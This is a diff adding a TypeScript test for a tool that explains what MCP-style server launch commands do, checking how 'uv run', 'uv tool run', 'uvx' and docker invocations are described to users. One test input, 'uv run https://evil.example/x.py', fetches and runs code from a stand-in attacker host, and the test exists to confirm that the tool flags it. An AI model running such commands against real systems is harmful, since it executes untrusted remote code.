@@ -199,6 +199,26 @@ describe('a dangerous option', () => {
     expect(refused(line.split(' '))).toEqual([])
   })
 
+  it('of a project that is run where it lies says that it is no package [servers.examined]', () => {
+    const said = (line: string) => sayTouches(server(line.split(' ')), []).join(' ')
+    const named = (line: string) =>
+      findHazards(server(line.split(' ')), false).filter(({ text }) => text.includes('newest version'))
+    for (const line of [
+      'uv --directory /srv/a run server.py',
+      'uv run src/server.py',
+      'uv run mcp run x.py',
+    ]) {
+      expect(said(line)).not.toContain('and runs it')
+      expect(named(line)).toEqual([])
+    }
+    expect(said('uv --directory /srv/a run server.py')).toContain(
+      'Runs “server.py”, and downloads from PyPI what its project needs and lacks.',
+    )
+    expect(said('uv tool run weather')).toContain('Downloads “weather” from PyPI and runs it.')
+    expect(said('uv run https://evil.example/x.py')).toContain('from the internet and runs it')
+    expect(named('uvx weather')).toHaveLength(1)
+  })
+
   it('is no reason to say that a container sees nothing [servers.examined]', () => {
     const said = (line: string) => sayTouches(server(line.split(' ')), []).join(' ')
     expect(said(`docker run -v/data:/d ${IMAGE}`)).toContain('Sees these folders of this machine: “/data”')
